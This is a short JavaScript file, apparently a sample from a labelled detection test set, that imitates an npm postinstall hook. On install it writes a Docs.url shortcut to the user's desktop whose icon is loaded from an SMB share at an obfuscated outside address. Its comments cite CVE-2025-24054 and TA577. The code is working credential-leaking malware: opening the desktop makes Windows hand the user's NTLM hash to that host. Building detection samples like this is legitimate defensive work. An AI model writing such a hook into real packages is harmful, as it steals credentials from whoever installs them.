// source: blind set 10 (electron-shortcut-creator), after CVE-2025-24054 / TA577: a postinstall drops a
// .url shortcut and a .library-ms whose icon and location sit on an attacker's SMB share
// when: install
const fs = require('fs');
const os = require('os');
const path = require('path');

const host = [203, 0, 113, 66].join('.');
const share = `\\\\${host}\\icons`;
const url = `[InternetShortcut]\r\nURL=https://docs.example/\r\nIconIndex=0\r\nIconFile=${share}\\app.ico\r\n`;
fs.writeFileSync(path.join(os.homedir(), 'Desktop', 'Docs.url'), url);
